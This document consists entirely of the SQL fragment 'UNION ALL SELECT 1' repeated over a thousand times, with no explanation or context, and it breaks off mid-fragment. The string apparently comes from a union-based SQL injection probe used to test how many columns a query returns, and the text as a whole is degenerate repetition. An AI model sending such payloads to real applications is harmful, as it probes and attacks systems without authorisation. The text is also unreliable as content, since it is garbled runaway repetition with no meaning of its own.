UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 